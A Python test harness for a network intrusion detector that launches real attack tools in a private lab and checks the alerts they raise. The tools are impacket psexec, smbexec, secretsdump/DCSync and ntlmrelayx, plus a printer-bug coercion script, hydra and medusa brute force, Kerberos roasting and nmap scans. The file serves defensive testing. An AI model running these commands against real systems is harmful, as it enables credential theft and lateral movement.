#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""`bulkhead run` watches while real tools go from host to host, and while others work in ways that look much the same. Prints TAP.

Each case has an attacker of its own and says which detectors must name it, with its victim among the targets. At the end nobody
else may have been named at medium or above, and nobody by the same detector twice at one severity. The slower half runs when
BH_ALL=1 is set, as tools/test --all does. BH_KEEP=DIR keeps records, logs and a capture there.
"""
import faulthandler
import json
import os
import runpy
import shutil
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import daemon  # noqa: E402
import victims  # noqa: E402
lab, BIN, PASSWORD, quote = daemon.lab, daemon.BIN, victims.PASSWORD, victims.quote

EXAMPLES = '/usr/share/doc/python3-impacket/examples/'
LEVELS = ('info', 'low', 'medium', 'high', 'critical')
POLICY = '''version: 1
site: Test town
zones:
  office:  {networks: [10.10.1.0/24], purdue: 4}
  servers: {networks: [10.10.2.0/24], purdue: 4}
hosts:
  backup-1:  {addresses: [10.10.2.201], roles: [backup]}
  deploy-1:  {addresses: [10.10.1.202], roles: [deploy]}
  monitor-1: {addresses: [10.10.1.203], roles: [monitor]}
  scan-1:    {addresses: [10.10.1.204], roles: [vulnscan]}
  print-1:   {addresses: [10.10.2.205], roles: [print]}
  dc-1:      {addresses: [10.10.2.25], roles: [dc, dns]}
conduits:
  - {name: to, from: office, to: servers, allow: [any]}
  - {name: fro, from: servers, to: office, allow: [any]}
response: {mode: observe}
'''
SERVERS = {'win': 20, 'win1': 21, 'clear': 22, 'sealed': 23, 'old': 24, 'dc': 25, 'ssh-b': 30, 'ssh-d': 31, 'ssh-x': 32, 'kdc': 40, 'winrm': 41, 'ftp': 42,
           'backup': 201, 'printer': 205}
OFFICE = {'psexec': 11, 'psexec1': 12, 'psexec-enc': 13, 'smbexec': 14, 'atexec': 15, 'reg': 16, 'relay': 17, 'client': 18, 'coercer': 19, 'guess': 20,
          'guess-smb': 21, 'spray': 22, 'chain': 23, 'ssh-c': 24, 'roast': 25, 'names': 26, 'remoting': 27, 'syn': 28, 'connect': 29, 'fin': 30, 'mass': 31,
          'arp': 32, 'dir': 33, 'sids': 34, 'medusa': 35, 'ftp-guess': 36, 'services': 37, 'secrets': 38, 'atexec1': 39, 'save': 40, 'roast2': 41, 'chain2': 42,
          'win-c': 43, 'medusa-smb': 44, 'pings': 45, 'smbexec1': 46, 'dcsync': 47, 'endpoints': 48, 'desk': 100, 'deploy': 202, 'monitor': 203, 'scanner': 204}
WATCHER = '''import sys,time
path,out=sys.argv[1:]
while True:
 try: f=open(path,"rb"); break
 except OSError: time.sleep(.05)
with open(out,"wb",0) as o:
 part=b""
 while True:
  d=f.read()
  if not d: time.sleep(.002); continue
  at=time.time(); part+=d
  *lines,part=part.split(b"\\n")
  for l in lines:
   if b'"event_type":"alert"' in l or b'"event_type":"bulkhead"' in l: o.write(b"%f %s\\n"%(at,l))
'''


class Forked:
    """A program of impacket's examples in a child of ours, which saves the second it takes to load; with less patience, for nothing here answers late"""

    def __init__(self, net, ns, name, args, stdin=b''):
        r, w = os.pipe()
        os.write(w, stdin)
        os.close(w)
        self.returncode = None
        self.pid = os.fork()
        if self.pid:
            os.close(r)
            return
        try:
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_DFL)
            lab.enter(ns)
            out = os.open(os.path.join(net.work, 'tool-%s-%s.log' % (ns, name)), os.O_WRONLY | os.O_CREAT | os.O_APPEND)
            os.dup2(r, 0)
            os.dup2(out, 1)
            os.dup2(out, 2)
            os.chdir(net.work)
            sleep = time.sleep
            time.sleep = lambda s: sleep(min(s, 0.05))
            sys.argv = [name] + [str(a) for a in args]
            sys.stdout, sys.stderr, sys.stdin = os.fdopen(1, 'w', 1), os.fdopen(2, 'w', 1), os.fdopen(0)
            runpy.run_path(EXAMPLES + name, run_name='__main__')
        except SystemExit:
            pass
        except BaseException as e:
            os.write(2, ('%r\n' % e).encode())
        os._exit(0)

    def poll(self):
        if self.returncode is None and os.waitpid(self.pid, os.WNOHANG)[0]:
            self.returncode = 0
        return self.returncode

    def wait(self, seconds):
        end = time.time() + seconds
        while self.poll() is None:
            if time.time() > end:
                raise subprocess.TimeoutExpired('tool', seconds)
            time.sleep(0.02)


class Lateral(daemon.Test):
    def __init__(self):
        self.n = self.bad = 0
        self.daemon, self.everything = None, os.environ.get('BH_ALL') == '1'
        self.net = n = lab.Lab()
        n.zone('office', '10.10.1.0/24')
        n.zone('servers', '10.10.2.0/24')
        for names, zone in ((SERVERS, 'servers'), (OFFICE, 'office')):
            for name, number in names.items():
                n.host(name, zone, number, range(50, 55) if name == 'ssh-x' else ())
        n.up()
        self.policy, self.sock, self.eve, self.seen = (os.path.join(n.work, x) for x in ('town.yaml', 'api.sock', 'eve.json', 'seen'))
        with open(self.policy, 'w') as f:
            f.write(POLICY)
        self.on = victims.Servers(n)
        self.blamed, self.running = set(), []
        for name, text in (('words', '\n'.join('guess%d' % i for i in range(204))), ('few', '\n'.join('guess%d' % i for i in range(24)) + '\n' + PASSWORD),
                           ('users', 'anna\nbert\n'), ('nobodies', '\n'.join('nobody%d' % i for i in range(8)))):
            with open(self.file(name), 'w') as f:
                f.write(text + '\n')

    def file(self, name):
        return os.path.join(self.net.work, name)

    # ---- what was said ----
    def alerts(self):
        out = []
        try:
            with open(self.seen, errors='replace') as f:
                for line in f:
                    at, text = line.split(' ', 1)
                    e = json.loads(text) if text.endswith('\n') else {'event_type': ''}
                    if e['event_type'] == 'alert':
                        e['seen'], e['who'] = float(at), e['src_ip']
                        e['name'], e['level'] = e['bulkhead']['evidence'][0]['detector'], LEVELS.index(e['alert']['metadata']['signature_severity'][0])
                        e['victims'] = {t['ip'] for t in e['bulkhead'].get('targets', [])}
                        out.append(e)
        except OSError:
            pass
        return out

    def tool(self, ns, name, *args, stdin=b''):
        if not os.path.exists(EXAMPLES + name):
            return None
        sys.stdout.flush()
        p = Forked(self.net, ns, name, args, stdin)
        self.net.procs.append(p)
        self.running.append(p)
        return p

    def go(self, ns, cmd, **kw):
        p = self.net.spawn(ns, cmd if isinstance(cmd, list) else ['sh', '-c', cmd], log='go-%s.log' % ns, **kw)
        self.running.append(p)
        return p

    def end(self, seconds=20):
        """What was started in this case comes to its end, or is ended"""
        end = time.time() + seconds
        for p in self.running:
            try:
                p.wait(max(0.05, end - time.time()))
            except subprocess.TimeoutExpired:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except OSError:
                    pass
        self.running = []

    def expect(self, title, who, at, *names, least=1, seconds=6):
        """who, a host, is named by each of the detectors, with the victim (a host, or None) in the targets; least: severity"""
        ip, victim = self.net.ip(who), at and self.net.ip(at)
        self.blamed.add(ip)
        found = {}

        def look():
            for a in self.alerts():
                if a['who'] == ip and a['name'] in names and a['level'] >= least and (not victim or victim in a['victims']):
                    found.setdefault(a['name'], a)
            return len(found) == len(names)
        self.until(look, seconds)
        for name in names:
            a = found.get(name)
            self.ok(a, '%s: %s names %s' % (title, name, who), [(x['name'], x['who'], sorted(x['victims']), LEVELS[x['level']]) for x in self.alerts() if ip in (x['who'], x.get('dest_ip'))])
            if a:
                print('#   %s; record %.1f ms after its packet' % (a['bulkhead']['evidence'][0]['text'], 1000 * (a['seen'] - self.when(a))), flush=True)

    @staticmethod
    def when(e):
        t = e['timestamp']
        import calendar
        sign = 1 if t[26] == '+' else -1
        return calendar.timegm(time.strptime(t[:19], '%Y-%m-%dT%H:%M:%S')) + float('0' + t[19:26]) - sign * (int(t[27:29]) * 3600 + int(t[29:31]) * 60)

    def lacks(self, title, *paths):
        """True when a program is missing: the case is skipped with that reason"""
        missing = [p for p in paths if not (os.path.exists(p) or victims.program(p) if p[0] == '/' else shutil.which(p))]
        if missing:
            self.skip(title, ', '.join(missing) + ' missing; tools/setup and tools/test provide it')
        return bool(missing)

    def skip(self, title, why):
        self.n += 1
        print('ok %d - %s # skip %s' % (self.n, title, why), flush=True)

    # ---- cases ----
    def execution(self):
        """A program copied and started as a service or a task; over SMB1, SMB2.1 in clear, SMB3 sealed"""
        target = 'administrator:%s@%%s' % PASSWORD
        for ns, at in (('psexec', 'win'), ('psexec1', 'old'), ('psexec-enc', 'sealed')):
            self.tool(ns, 'psexec.py', '%s:%s@%s' % ('administrator' if at == 'win' else 'root', PASSWORD, self.net.ip(at)), 'cmd')
        self.tool('smbexec', 'smbexec.py', target % self.net.ip('win'), stdin=b'exit\n')
        self.tool('atexec', 'atexec.py', target % self.net.ip('win'), 'whoami')
        # CreateServiceW alone is medium; Samba refuses it, so nothing is started over SMB1
        self.expect('psexec over SMB2.1', 'psexec', 'win', 'exec.svc', least=3)
        self.expect('psexec over SMB2.1', 'psexec', 'win', 'share.exe', least=2)
        self.expect('psexec over SMB1', 'psexec1', 'old', 'exec.svc', 'share.exe', least=2)
        self.expect('psexec over sealed SMB3', 'psexec-enc', 'sealed', 'exec.enc', least=3)
        self.expect('smbexec', 'smbexec', 'win', 'exec.svc', least=3)
        self.expect('atexec', 'atexec', 'win', 'exec.task', least=3)
        self.end(4)
        if self.everything:
            self.tool('services', 'services.py', target % self.net.ip('win'), 'create', '-name', 'updater', '-display', 'Updater', '-path', 'c:\\u.exe')
            self.tool('smbexec1', 'smbexec.py', target % self.net.ip('win1'), stdin=b'exit\n')
            self.tool('atexec1', 'atexec.py', target % self.net.ip('win1'), 'whoami')
            self.expect('services create', 'services', 'win', 'exec.svc')
            self.expect('smbexec over SMB1', 'smbexec1', 'win1', 'exec.svc')
            self.expect('atexec over SMB1', 'atexec1', 'win1', 'exec.task')
            self.end(4)

    def directory(self):
        clear, win = 'root:%s@%s' % (PASSWORD, self.net.ip('clear')), 'administrator:%s@%s' % (PASSWORD, self.net.ip('win'))
        for path in ('samrdump.py', 'lookupsid.py'):
            self.tool('dir', path, clear)
        self.tool('reg', 'reg.py', win, 'add', '-keyName', 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', '-v', 'updater', '-vt', 'REG_SZ', '-vd', 'c:\\u.exe')
        self.tool('save', 'reg.py', win, 'save', '-keyName', 'HKLM\\SAM', '-o', '\\\\%s\\x' % self.net.ip('save'))
        self.tool('secrets', 'secretsdump.py', win)
        self.expect('samrdump and lookupsid', 'dir', 'clear', 'enum.dir')
        self.expect('reg add Run', 'reg', 'win', 'hide')
        self.expect('reg save SAM', 'save', 'win', 'hide', least=3)
        self.expect('secretsdump', 'secrets', 'win', 'hide', least=3)
        self.end(10)

    def controller(self):
        if self.lacks('a domain controller', 'samba-tool', '/usr/share/samba/setup/provision_users.ldif', '/usr/lib/%s-linux-gnu/samba/vfs/acl_xattr.so' % os.uname().machine):
            return
        dc = self.net.ip('dc')
        up = self.net.wait_port('gw', dc, 135, 90) and self.net.wait_port('gw', dc, 445, 10)
        self.ok(up, 'the domain controller is up', self.net.log('dc.log')[-500:])
        target = 'administrator:%s@%s' % (PASSWORD, dc)
        self.tool('dcsync', 'secretsdump.py', '-just-dc', target)
        self.tool('sids', 'lookupsid.py', target)
        self.tool('endpoints', 'rpcdump.py', dc)
        self.expect('secretsdump -just-dc', 'dcsync', 'dc', 'ad.critical', least=4)
        self.expect('lookupsid', 'sids', 'dc', 'enum.dir')
        self.end(5)
        print('#   rpcdump alone: %s' % [a['name'] for a in self.alerts() if a['who'] == self.net.ip('endpoints')])

    def relayed(self):
        stub = self.file('dsinternals')
        p = self.net.spawn('relay', ['/usr/bin/python3', '-c', RELAY, EXAMPLES + 'ntlmrelayx.py', '-t', 'smb://' + self.net.ip('clear'), '-smb2support',
                                     '--no-http-server', '--no-wcf-server', '--no-raw-server', '-of', stub], log='relay.log', stdin=subprocess.PIPE)
        self.running.append(p)
        if self.net.wait_port('client', self.net.ip('relay'), 445, 8):
            self.go('client', ['smbclient', '//%s/data' % self.net.ip('relay'), '-U', 'root%' + PASSWORD, '-c', 'ls'])
        self.expect('ntlmrelayx', 'relay', 'clear', 'ntlm.identity', least=3)
        self.end(1)

    def coerced(self):
        self.on.windows('coercer')
        self.net.wait_port('win', self.net.ip('coercer'), 445, 5)
        self.go('coercer', ['/usr/bin/python3', '-c', COERCE, self.net.ip('win'), self.net.ip('coercer')])
        self.expect('the printer bug, called back', 'coercer', 'win', 'coerce', least=3)
        self.end(1)

    def guessing(self):
        clear, old, ssh = (self.net.ip(x) for x in ('clear', 'old', 'ssh-d'))
        if not self.lacks('hydra on ssh', 'hydra', '/usr/sbin/sshd'):
            # one connection is one failure, whatever was tried in it; hydra rests half a minute when a server has hung up
            self.go('guess', 'cd /run && timeout 12 hydra -q -I -t 34 -l alice -P %s ssh://%s; sshpass -p %s ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@%s true' % (
                self.file('words'), ssh, quote(PASSWORD), ssh))
            self.go('guess-smb', 'cd /run && hydra -q -I -t 1 -l root -P %s smb://%s' % (self.file('few'), old))
        spray = ' '.join('u%d' % i for i in range(10))
        self.go('spray', 'for u in %s; do smbclient -L //%s -U $u%%Winter2026 -m SMB3; done' % (spray, clear))
        self.expect('smbclient over ten accounts', 'spray', 'clear', 'auth.spray')
        if shutil.which('hydra'):
            self.expect('hydra on SMB', 'guess-smb', 'old', 'auth.brute', least=2)
        if shutil.which('hydra') and victims.program('/usr/sbin/sshd'):
            self.expect('hydra on ssh', 'guess', 'ssh-d', 'auth.brute', least=2, seconds=25)
        for who, what in (('guess-smb', 'hydra'), ('guess', '/usr/sbin/sshd')):
            if shutil.which('hydra') and (shutil.which(what) or victims.program(what)):
                self.ok(self.until(lambda: any(a['who'] == self.net.ip(who) and a['name'] == 'auth.brute' and a['level'] >= 3 for a in self.alerts()), 15),
                        'a success after the burst raises it (%s)' % who, self.net.log('go-%s.log' % who))
        self.end(3)
        if not self.everything:
            return
        if not self.lacks('medusa', 'medusa'):
            self.go('medusa-smb', 'medusa -h %s -u root -P %s -M smbnt -t 1 -F' % (old, self.file('few')))
            self.go('medusa', 'medusa -h %s -u alice -P %s -M ssh -t 8' % (ssh, self.file('words')))
            self.expect('medusa on SMB', 'medusa-smb', 'old', 'auth.brute')
            self.expect('medusa on ssh', 'medusa', 'ssh-d', 'auth.brute', seconds=60)
        if not self.lacks('hydra on ftp', 'hydra', '/usr/sbin/vsftpd'):
            self.go('ftp-guess', 'cd /run && timeout 30 hydra -q -I -t 8 -l alice -P %s ftp://%s' % (self.file('words'), self.net.ip('ftp')))
            self.expect('hydra on ftp', 'ftp-guess', 'ftp', 'auth.brute', seconds=40)
        self.end(5)

    def tickets(self):
        if self.lacks('a KDC', '/usr/sbin/krb5kdc', '/usr/sbin/kadmin.local', 'kinit', 'kvno'):
            return
        services = ['http/s%d.town.lab' % i for i in range(6)]
        env = self.on.kdc('kdc', {'alice': True, 'anna': False, 'bert': False}, services)
        kdc = self.net.ip('kdc')
        self.net.wait_port('roast', kdc, 88)
        for ns, names in (('roast', 'users'), ('names', 'nobodies')):
            self.tool(ns, 'GetNPUsers.py', 'TOWN.LAB/', '-usersfile', self.file(names), '-dc-ip', kdc, '-no-pass', '-format', 'hashcat')
        self.go('roast2', 'echo %s | kinit alice && kvno %s' % (quote(PASSWORD), ' '.join(services)), env=env)
        self.expect('AS-REP roasting', 'roast', 'kdc', 'krb.roast')
        self.expect('names asked of the KDC', 'names', 'kdc', 'auth.spray')
        self.expect('RC4 tickets for six services', 'roast2', 'kdc', 'krb.roast')
        self.end(5)

    def scans(self):
        if self.lacks('nmap', 'nmap'):
            return
        self.go('syn', 'nmap -n -Pn -sS -T4 --max-retries 1 -p 22,80,135,139,445,3389,5985 10.10.2.20-60')
        self.go('connect', 'nmap -n -Pn -sT -T4 --max-retries 0 --host-timeout 20s -p 445 10.10.2.20-60')
        self.go('fin', 'nmap -n -Pn -sF -T4 --max-retries 0 -p 20-90 ' + self.net.ip('clear'))
        self.go('pings', 'nmap -n -sn 10.10.1.0/24')
        self.expect('nmap -sS', 'syn', None, 'tool.syn', 'scan.seq')
        self.expect('nmap -sT', 'connect', None, 'fanout.admin', 'scan.seq', seconds=30)
        self.expect('nmap -sF', 'fin', 'clear', 'tool.syn')
        self.expect('nmap -sn', 'pings', None, 'scan.arp')
        if not self.lacks('arp-scan', 'arp-scan'):
            self.go('arp', 'arp-scan -I eth0 -t 50 10.10.1.0/24')
            self.expect('arp-scan', 'arp', None, 'scan.arp')
        if not self.lacks('masscan', 'masscan'):
            self.go('mass', 'masscan -e eth0 --wait 1 --rate 2000 -p 445 10.10.2.0/24')
            self.expect('masscan', 'mass', None, 'tool.syn')
        self.end(5)

    def chain(self):
        if self.lacks('ssh from hop to hop', '/usr/sbin/sshd', 'ssh'):
            return
        b, c, d = (self.net.ip(x) for x in ('ssh-b', 'ssh-c', 'ssh-d'))
        self.go('chain', self.on.ssh(b, c, d, then='sleep 1'))
        self.expect('the first ssh session', 'chain', 'ssh-b', 'session.remote', least=0)
        self.expect('ssh from hop to hop', 'ssh-b', 'ssh-c', 'chain.causal', least=2)
        self.expect('ssh, the third hop', 'ssh-c', 'ssh-d', 'chain.causal', least=2)
        said = [a['bulkhead']['evidence'][0]['text'] for a in self.alerts() if a['name'] == 'chain.causal' and a['who'] == b]
        self.ok(said and said[0].startswith(self.net.ip('chain') + ' '), 'and where it came from', said)
        self.end(5)
        if self.everything:
            self.on.windows('win-c')
            self.net.wait_port('win', self.net.ip('win-c'), 445, 10)
            for frm, to in (('chain2', 'win'), ('win', 'win-c')):
                self.tool(frm, 'psexec.py', 'administrator:%s@%s' % (PASSWORD, self.net.ip(to)), 'cmd')
                self.expect('psexec from %s' % frm, frm, to, 'exec.svc')
                self.end(5)
            self.expect('psexec from host to host', 'win', 'win-c', 'chain.causal', least=2)

    def remoting(self):
        probe = subprocess.run(['/usr/bin/python3', '-c', 'import winrm'], capture_output=True)
        if probe.returncode and not self.lacks('python3-winrm', '/usr/lib/python3/dist-packages/winrm'):
            return
        self.on.mock('winrm', 'winrm')
        self.net.wait_port('remoting', self.net.ip('winrm'), 5985, 5)
        self.go('remoting', ['/usr/bin/python3', '-c', 'import winrm,sys; print(winrm.Session(sys.argv[1], auth=("administrator", "x"), transport="basic").run_cmd("whoami").std_out)',
                             'http://%s:5985/wsman' % self.net.ip('winrm')])
        self.expect('python3-winrm', 'remoting', 'winrm', 'exec.winrm')
        self.end(5)

    def honest(self):
        """Work that looks like it: nothing at low or above"""
        n = self.net
        cred = ['-U', 'root%' + PASSWORD]
        for at in ('clear', 'sealed'):
            # all hosts here have this machine's name; the client says the one the policy knows
            self.go('backup', ['smbclient', '//%s/data' % n.ip(at), '--netbiosname=backup-1'] + cred + ['-c', 'prompt off; recurse on; lcd %s; mget *' % self.on.folder('pulled-' + at)])
            self.go('desk', ['smbclient', '-L', '//' + n.ip(at)] + cred)
            self.go('desk', ['smbclient', '//%s/data' % n.ip(at)] + cred + ['-c', 'ls; cd letters; ls; get letter0.txt /dev/null'])
        with open(self.file('agent.exe'), 'wb') as f:
            f.write(b'MZ' + os.urandom(60000))
        for at in ('clear', 'sealed'):
            self.go('deploy', 'smbclient //%s/ADMIN$ --netbiosname=deploy-1 -U root%%%s -c "put %s agent.exe" && rpcclient --netbiosname=deploy-1 -U root%%%s -c srvinfo %s' % (
                n.ip(at), quote(PASSWORD), self.file('agent.exe'), quote(PASSWORD), n.ip(at)))
        if victims.program('/usr/sbin/sshd'):
            self.go('deploy', '; '.join(self.on.ssh('10.10.2.%d' % k, then='uname')[2] for k in range(50, 55)))
            if shutil.which('rsync'):
                self.go('backup', "rsync -a -e %s root@%s:%s/ %s/" % (quote(self.on.ssh_words()), n.ip('ssh-x'), self.letters, self.on.folder('rsynced')))
        self.go('monitor', 'for i in %s; do ping -n -c 1 -W 1 10.10.2.$i; done' % ' '.join(str(k) for k in SERVERS.values()))
        self.go('monitor', ['/usr/bin/python3', '-c', 'import socket,sys\nfor a in sys.argv[1:]:\n for p in (22,80,445):\n  try: socket.create_connection((a,p),1).close()\n  except OSError: pass'] +
                [n.ip(x) for x in SERVERS])
        self.on.mock('printer', 'sink', '9100', '631')
        n.wait_port('desk', n.ip('printer'), 9100, 5)
        self.go('desk', ['/usr/bin/python3', '-c', 'import socket,sys,urllib.request\ns=socket.create_connection((sys.argv[1],9100)); s.sendall(b"%!PS "*9000); s.close()\n'
                         'urllib.request.urlopen(urllib.request.Request("http://%s:631/printers/a" % sys.argv[1], b"\\1\\1\\0\\2\\0\\0\\0\\1\\1\\3" + b"x"*60000, {"Content-Type":"application/ipp"})).read()', n.ip('printer')])
        if shutil.which('nmap'):
            self.go('scanner', 'nmap -n -Pn -sS -T4 --max-retries 1 -p 22,80,135,139,445,3389,5985 10.10.2.20-60')
        running = list(self.running)
        self.end(20)
        self.ok(all(getattr(p, 'returncode', 0) == 0 for p in running), 'everybody could do his work', [(p.args[2:], p.returncode) for p in running if p.returncode])
        time.sleep(1.5)
        for who, what in (('backup', 'backup over SMB and rsync'), ('deploy', 'software and orders pushed to many'), ('monitor', 'pings and port checks'),
                          ('desk', 'files and printing'), ('printer', 'a printer')):
            said = [(a['name'], LEVELS[a['level']], a['bulkhead']['evidence'][0]['text']) for a in self.alerts() if a['who'] == n.ip(who) and a['level'] >= 1]
            self.ok(not said, '%s raises nothing' % what, said)
        said = [(a['name'], LEVELS[a['level']]) for a in self.alerts() if a['who'] == n.ip('scanner')]
        self.ok(all(LEVELS.index(level) <= 1 for _, level in said), "the security team's own nmap raises no more than low", said)

    def afterwards(self):
        alerts = [a for a in self.alerts() if a['level'] >= 2]
        strangers = [(a['name'], a['who'], a['bulkhead']['evidence'][0]['text']) for a in alerts if a['who'] not in self.blamed]
        self.ok(not strangers, 'nobody else is named at medium or above', strangers)
        rising, twice = {}, []
        for a in alerts:
            key = (a['who'], a['name'])
            if a['level'] <= rising.get(key, 0):
                twice.append(key)
            rising[key] = a['level']
        self.ok(not twice, 'and nobody twice by one detector, unless it got worse', twice)
        acted = [e for e in self.records('applied')] + [e for e in self.records('proposed') if e.get('src_ip') in [self.net.ip(x) for x in ('scanner', 'backup', 'deploy', 'monitor', 'desk')]]
        self.ok(not acted, 'observing, nothing was cut; nothing proposed against honest work', acted)
        s = self.status()
        self.ok(s.get('counters', {}).get('packets', 0) > 500 and not s['counters']['kernel_drops'] and not s['counters']['ring_drops'], 'the daemon saw it all, and the core heard all it said', s.get('counters'))
        print('#   %s' % {k: v for k, v in s.get('counters', {}).items() if v and ('drop' in k or k == 'packets')})

    def victims_up(self):
        on, n = self.on, self.net
        on.windows('win')
        if self.everything:
            on.windows('win1', 'smb1')
        folders = [on.smbd('clear', 'server smb encrypt = off'), on.smbd('sealed', 'server smb encrypt = desired')]
        on.smbd('old', 'server min protocol = NT1\nserver max protocol = NT1\nntlm auth = yes', shares=('ADMIN$',))
        for data in folders:
            self.letters = data + '/letters'
            os.makedirs(self.letters)
            for i in range(20):
                with open(self.letters + '/letter%d.txt' % i, 'w') as f:
                    f.write('Dear neighbour, ' * 500)
        if victims.program('/usr/sbin/sshd'):
            for host in ('ssh-b', 'ssh-c', 'ssh-d', 'ssh-x'):
                on.sshd(host)
        if (self.everything or 'controller' in sys.argv) and shutil.which('samba-tool'):
            on.controller('dc')
        if self.everything and victims.program('/usr/sbin/vsftpd'):
            on.ftpd('ftp')
        return [x for x in ('win', 'clear', 'sealed', 'old') + (('win1',) if self.everything else ()) if not n.wait_port('gw', n.ip(x), 445, 15)]

    def run(self):
        quick = [self.execution, self.relayed, self.guessing, self.chain, self.honest]
        every = [self.honest, self.execution, self.directory, self.relayed, self.coerced, self.guessing, self.chain, self.tickets, self.remoting, self.scans,
                 self.controller]
        missing = self.victims_up()
        self.ok(not missing, 'the victims are up', missing)
        self.net.spawn('gw', ['/usr/bin/python3', '-c', WATCHER, self.eve, self.seen])
        keep = os.environ.get('BH_KEEP')
        if keep:
            for zone in ('office', 'servers'):
                self.net.spawn('gw', ['tcpdump', '-Z', 'root', '-i', 'br-' + zone, '-Q', 'in', '-U', '-w', self.file(zone + '.pcap')])
        self.ok(self.start(), 'run starts')
        import impacket.smbconnection, impacket.dcerpc.v5.scmr, impacket.dcerpc.v5.tsch, impacket.dcerpc.v5.samr  # noqa: E401,F401
        only = sys.argv[1:]
        for case in every if self.everything or only else quick:
            if not only or case.__name__ in only:
                t = time.time()
                try:
                    case()
                except lab.Unavailable as e:
                    self.skip(case.__name__, e)
                self.end(0.1)
                print('# %s: %.1f s' % (case.__name__, time.time() - t), flush=True)
        time.sleep(0.5)
        self.afterwards()
        self.stop()
        if keep:
            os.makedirs(keep, exist_ok=True)
            for name in os.listdir(self.net.work):
                if os.path.isfile(self.file(name)) and name.endswith(('.log', '.json', '.pcap', 'seen')):
                    shutil.copy(self.file(name), keep)
        print('1..%d' % self.n, flush=True)
        return self.bad != 0


# the tool asks for a module that Debian has not, for an attack that is not used here: any name is in it
RELAY = '''
import sys,types,importlib.abc,importlib.machinery,runpy
class Any(types.ModuleType):
    __path__=[]
    def __getattr__(self,name):
        if name.startswith("__"): raise AttributeError(name)
        return type(name,(),{})
class Finder(importlib.abc.MetaPathFinder,importlib.abc.Loader):
    def find_spec(self,name,path=None,target=None):
        return importlib.machinery.ModuleSpec(name,self,is_package=True) if name.split(".")[0]=="dsinternals" else None
    def create_module(self,spec): return Any(spec.name)
    def exec_module(self,module): pass
sys.meta_path.append(Finder()); sys.argv=sys.argv[1:]
runpy.run_path(sys.argv[0],run_name="__main__")
'''
COERCE = '''
import sys
from impacket.dcerpc.v5 import rprn,transport
t=transport.DCERPCTransportFactory("ncacn_np:%s[\\\\pipe\\\\spoolss]"%sys.argv[1]); t.set_credentials("administrator","Passw0rd!")
d=t.get_dce_rpc(); d.connect(); d.bind(rprn.MSRPC_UUID_RPRN)
h=rprn.hRpcOpenPrinter(d,"\\\\\\\\%s\\0"%sys.argv[1])["pHandle"]
rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(d,h,rprn.PRINTER_CHANGE_ADD_JOB,pszLocalMachine="\\\\\\\\%s\\0"%sys.argv[2])
'''


def main(case, need, elsewhere=()):
    """Runs a test of this kind, its lab private: need are programs it cannot do without, elsewhere files."""
    missing = [p for p in need if not shutil.which(p, path=os.environ['PATH'] + ':/usr/sbin:/sbin')] + [f for f in elsewhere if not os.path.exists(f)]
    if missing:
        print('1..0 # skip %s missing; tools/setup installs it' % ', '.join(missing))
        return 77
    try:
        lab.private()
    except lab.Unavailable as e:
        print('1..0 # skip %s' % e)
        return 77
    os.environ['PATH'] += ':/usr/sbin:/sbin'
    faulthandler.dump_traceback_later(230 if os.environ.get('BH_ALL') == '1' else 120, exit=True)
    t = case()
    try:
        return int(t.run())
    except lab.Unavailable as e:
        print('1..0 # skip %s' % e)
        return 77
    finally:
        t.net.down()


if __name__ == '__main__':
    sys.exit(main(Lateral, ('smbd', 'smbpasswd', 'smbclient', 'openssl'), [EXAMPLES]))
